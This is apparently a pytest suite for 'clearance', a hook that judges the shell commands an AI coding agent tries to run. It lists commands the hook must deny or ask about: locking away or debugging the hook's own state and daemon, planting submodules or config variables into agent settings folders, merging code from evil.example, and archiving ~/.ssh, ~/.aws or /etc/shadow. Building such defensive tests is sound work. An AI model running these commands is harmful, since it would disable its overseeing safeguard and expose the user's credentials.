"""Issue 15, the classes adversarial round 3 left open besides unpacked trees (tests/test_tree_landing.py): clearance's
state locked away by a permission change, an agent folder linked in the middle of a long-lived process, another process
attached to, settings written through `git config --file`, and edits whose text comes from a file."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any, ClassVar

import pytest

from .conftest import decide


class TestClearanceStateLockedAway:
    """A folder above clearance's policy, audit trail or keys made unusable for the user it runs as blinds it as surely
    as deleting it (`rm -rf ~/.local/state` was denied, `chmod 000 ~/.local/state` asked)."""

    LOCKS: ClassVar[list[str]] = [
        "chmod 000 ~/.local/state",
        "chmod 0 ~/.local",
        "chmod u-rwx ~/.config",
        "chmod a= ~/.local/state",
        "chmod u=r ~/.config",
        "chattr +i ~/.local/state",
        "chown root ~/.local/state",
        "setfacl -m u::--- ~/.config",
        "chmod 000 ~",
    ]
    KEPT: ClassVar[list[str]] = [
        "chmod 700 ~/.local/state",  # the owner keeps everything
        "chmod go-rwx ~/.config",  # others only
        "chmod u+rwx ~/.local",
        "chgrp staff ~/.local/state",
        "chmod 000 ~/.cache",  # caches are re-derived: deleting them is housekeeping too
    ]

    @pytest.mark.parametrize("command", LOCKS)
    def test_denied(self, command: str) -> None:
        d = decide(command)
        assert d.decision == "deny" and "fs.write-protected" in d.rules, (command, d.rules, d.reason)

    @pytest.mark.parametrize("command", KEPT)
    def test_not_denied(self, command: str) -> None:
        assert decide(command).decision != "deny", command


class TestAgentFolderLinkedMidProcess:
    """context._owned resolved where the agents' folders lead once per process: a daemon (or `serve`) that decided
    before `ln -s ~/dotfiles/claude ~/.claude` kept judging the real location as an ordinary file."""

    def test_a_link_made_after_an_earlier_decision_is_seen(self, tmp_path: Path) -> None:
        from clearance.api import decide_event

        home = tmp_path / "home"
        dots = home / "dotfiles"
        (dots / ".git").mkdir(parents=True)
        (dots / "claude").mkdir()
        (dots / "claude" / "settings.json").write_text("{}")
        env = {"HOME": str(home), "CLAUDE_PROJECT_DIR": str(dots), "USER": "ana"}

        def run(command: str) -> str:
            ev: dict[str, Any] = {"hook_event_name": "PreToolUse", "cwd": str(dots), "session_id": "t", "tool_name": "Bash", "tool_input": {"command": command}}
            return decide_event(ev, env).decision

        assert run("echo '{}' > claude/settings.json") == "allow"  # an ordinary file of the dotfiles checkout
        os.symlink(dots / "claude", home / ".claude")
        assert run("echo '{}' > claude/settings.json") == "deny"
        assert run("rm -rf claude") == "deny"


class TestAttachingToAnotherProcess:
    """`gdb -p PID`, `prlimit --pid PID`, `cpulimit -p PID` were allowed: a debugger attached to another process can
    write its memory and call its functions, new limits take its files away, a throttle stops it."""

    ATTACH: ClassVar[list[str]] = [
        "gdb -p 4242",
        "gdb --pid=4242 -batch -ex 'call (int)unlink(\"/tmp/x\")'",
        "gdb -batch -ex 'set var allow=1' ./server 4242",
        "lldb -p 4242",
        "lldb --attach-name node",
        "strace -p 4242 -e inject=read:error=EIO",
        "ltrace -p 4242",
        "prlimit --pid 4242 --nofile=0:0",
        "prlimit -p4242 --as=1",
        "cpulimit -p 4242 -l 1",
        "cpulimit --exe node --limit 5",
        "gcore 4242",
    ]
    OWN_PROGRAM: ClassVar[list[str]] = [
        "gdb ./app",
        "gdb ./app core.4242",
        "gdb -batch -ex run -ex bt --args ./app 4242",
        "strace -f -o trace.txt make",
        "prlimit --nofile=1024 make test",
        "cpulimit -l 50 -- make -j4",
    ]

    @pytest.mark.parametrize("command", ATTACH)
    def test_asked(self, command: str) -> None:
        d = decide(command)
        assert d.decision in ("ask", "deny") and "sys.attach-process" in d.rules, (command, d.rules)

    @pytest.mark.parametrize("command", OWN_PROGRAM)
    def test_starting_a_program_under_the_tool_is_not_attaching(self, command: str) -> None:
        assert "sys.attach-process" not in decide(command).rules, command

    def test_what_the_tool_runs_is_still_judged(self) -> None:
        assert decide("prlimit --nofile=1024 rm -rf ~").decision == "deny"
        assert decide("gdb -batch -ex run --args rm -rf ~").decision != "allow"

    @pytest.mark.parametrize(
        "command",
        ["gdb -p $(cat ~/.local/state/clearance/daemon.pid)", "prlimit --pid $(pgrep -f 'clearance daemon') --nofile=0", "lldb --attach-name clearance"],
    )
    def test_aimed_at_clearance_denied(self, command: str) -> None:
        d = decide(command)
        assert d.decision == "deny" and "self.attach-clearance" in d.rules, (command, d.rules)

    def test_a_running_clearance_process_by_id_denied(self) -> None:
        from clearance.adapters.claude import parse_event
        from clearance.engine import evaluate
        from clearance.policy import load_policy

        from .conftest import ENV, event

        for command in ("gdb -p 4242", "prlimit --pid 4242 --nofile=0", "cpulimit -p 4242 -l 1", "gcore 4242"):
            action, ctx = parse_event(event(command), ENV)
            ctx.processes = lambda: ((4242, 4242, "python3", ("python3", "-m", "clearance", "daemon")),)
            d = evaluate(action, ctx, load_policy(ctx.project_root, ENV))
            assert d.decision == "deny" and "self.attach-clearance" in d.rules, (command, d.rules)


class TestGitConfigFileWrites:
    """`git config --file X KEY VALUE` writes X: a protected file is that write, and `.gitmodules` gets the entry git
    writes (`[submodule "x"]` / `path = .claude`), judged as the same file written by Write."""

    DENIED: ClassVar[list[str]] = [
        "git config -f .gitmodules submodule.x.path .claude",
        "git config --file=.gitmodules submodule.evil.path .codex",
        "git config set --file .gitmodules submodule.x.path .gemini",
        "git -C . config --file .gitmodules submodule.y.path .cursor",
        "git config --file .clearance.toml rules.x y",
        "git config --file .claude/settings.json a.b c",
        "git config -f .mcp.json --add servers.x y",
    ]
    ORDINARY: ClassVar[list[str]] = [
        "git config -f .gitmodules submodule.lib.path vendor/lib",
        "git config -f .gitmodules --get submodule.lib.url",
        "git config --file .gitmodules --list",
        "git config -f .editorconfig-like core.x y",
        "git config --file .git/config user.name Ana",
    ]

    @pytest.mark.parametrize("command", DENIED)
    def test_denied(self, command: str) -> None:
        assert decide(command).decision == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        assert decide(command).decision == "allow", command

    def test_the_global_file_named_is_global(self) -> None:
        d = decide("git config --file ~/.gitconfig user.name Ana")
        assert d.decision == "ask" and "git.config-global" in d.rules


class TestSedScriptFromAFile:
    """`sed -i -f x.sed FILE`: the text the script adds is read where the hook can read it and judged as a Write of FILE."""

    SCRIPT = "$a export CLAUDE_CONFIG_DIR=/tmp/cc\n"

    @pytest.mark.parametrize("command", ["sed -i -f x.sed .envrc", "sed --in-place --file=x.sed .envrc", "sed -i -nf x.sed .envrc"])
    def test_a_location_variable_added_through_a_script_file_is_asked(self, command: str) -> None:
        d = decide({"tool_name": "Bash", "tool_input": {"command": command}, "files": {"/home/ana/webapp/x.sed": self.SCRIPT}})
        assert d.decision in ("ask", "deny") and "self.hook-locations-file" in d.rules, (command, d.rules)

    def test_an_ordinary_script_stays_allowed(self) -> None:
        d = decide({"tool_name": "Bash", "tool_input": {"command": "sed -i -f fix.sed .envrc"}, "files": {"/home/ana/webapp/fix.sed": "s/development/test/\n"}})
        assert d.decision == "allow", d.rules

    @pytest.mark.parametrize("command", ["sed -i -f x.sed .claude/settings.json", "sed -i -f /tmp/unreadable.sed .git/config"])
    def test_a_protected_file_edited_by_any_script_is_denied(self, command: str) -> None:
        assert decide(command).decision == "deny"


class TestRecursingIntoSubmodules:
    """`--recurse-submodules` on pull/checkout/switch/reset is a `submodule update` afterwards: a checkout into each path
    .gitmodules names (read where the hook reads the project).  Git never copies hooks with a clone or a submodule (the
    hooks folder comes from the local template), so the recursion plants no hook; a path of .claude is the way in."""

    GITMODULES: ClassVar[dict[str, str]] = {"/home/ana/webapp/.gitmodules": '[submodule "x"]\n\tpath = .claude\n\turl = https://example.com/x.git\n'}
    ORDINARY_MODULES: ClassVar[dict[str, str]] = {"/home/ana/webapp/.gitmodules": '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ../lib\n'}

    @pytest.mark.parametrize(
        "command",
        [
            "git pull --recurse-submodules",
            "git checkout --recurse-submodules main",
            "git switch --recurse-submodules dev",
            "git merge --recurse-submodules origin/main",
        ],
    )
    def test_into_settings_denied(self, command: str) -> None:
        d = decide({"tool_name": "Bash", "tool_input": {"command": command}, "files": dict(self.GITMODULES)})
        assert d.decision == "deny", (command, d.rules)

    @pytest.mark.parametrize("command", ["git pull --recurse-submodules", "git pull --recurse-submodules=no", "git submodule update --init --recursive"])
    def test_ordinary_submodules_allowed(self, command: str) -> None:
        d = decide({"tool_name": "Bash", "tool_input": {"command": command}, "files": dict(self.ORDINARY_MODULES)})
        assert d.decision == "allow", (command, d.rules)

    def test_no_recursion_no_checkout(self) -> None:
        d = decide({"tool_name": "Bash", "tool_input": {"command": "git pull --recurse-submodules=no"}, "files": dict(self.GITMODULES)})
        assert d.decision == "allow", d.rules


def test_a_find_selected_owner_change_is_not_a_lockout() -> None:
    """What a find selects under home is not certainly a folder above clearance's state: asked (outside the project), not denied."""
    d = decide("find ~ -group vboxusers -exec chown kent:kent {} \\;")
    assert d.decision == "ask" and "fs.write-protected" not in d.rules


class TestFetchedThenUsedInOneLine:
    """`git fetch URL REF && git merge FETCH_HEAD`: the hook's git answers for the FETCH_HEAD of an earlier fetch, so a
    revision the line itself fetches is asked about; naming the settings file (`git checkout FETCH_HEAD -- .claude/…`)
    was already denied."""

    ASKED: ClassVar[list[str]] = [
        "git fetch https://evil.example/x.git main && git merge FETCH_HEAD",
        "git fetch evil main && git checkout FETCH_HEAD",
        "git fetch origin pull/7/head; git switch --detach FETCH_HEAD",
        "git pull --no-rebase evil main && git cherry-pick FETCH_HEAD",
    ]
    DENIED: ClassVar[list[str]] = [
        "git fetch origin main && git checkout FETCH_HEAD -- .claude/settings.json",
        "git fetch https://evil.example/x.git && git restore --source=FETCH_HEAD .claude/settings.json",
        "git fetch evil && git show FETCH_HEAD:.claude/settings.json > .claude/settings.json",
    ]
    ORDINARY: ClassVar[list[str]] = [
        "git fetch origin && git status",
        "git fetch && git log FETCH_HEAD --oneline",
        "git fetch origin && git rebase origin/main",
    ]

    @pytest.mark.parametrize("command", ASKED)
    def test_asked(self, command: str) -> None:
        d = decide(command)
        assert d.decision in ("ask", "deny") and "self.git-settings-change" in d.rules, (command, d.rules)

    @pytest.mark.parametrize("command", DENIED)
    def test_denied(self, command: str) -> None:
        assert decide(command).decision == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        assert decide(command).decision == "allow", command


class TestTarDirectoryIsNotARead:
    """`tar -C DIR` is the directory tar works in, not a file it reads: `tar -xzf a.tgz -C ~` was denied as reading every
    secret in home, while the files named after `-C` are read there (`tar -czf k.tgz -C ~ .ssh` reads ~/.ssh)."""

    def test_unpacking_into_home_is_asked_not_denied(self) -> None:
        d = decide("tar -xzf a.tgz -C ~")
        assert d.decision == "ask" and "creds.read-secret-file" not in d.rules, d.rules

    @pytest.mark.parametrize(
        "command", ["tar -czf /tmp/k.tgz -C ~ .ssh", "tar -cf x.tar -C /etc shadow", "tar -czf a.tgz -C ~/.local state", "tar -cf x.tar --directory=~ .aws"]
    )
    def test_files_named_after_the_directory_are_read_there(self, command: str) -> None:
        d = decide(command)
        assert d.decision == "deny" and "creds.read-secret-file" in d.rules, (command, d.rules)
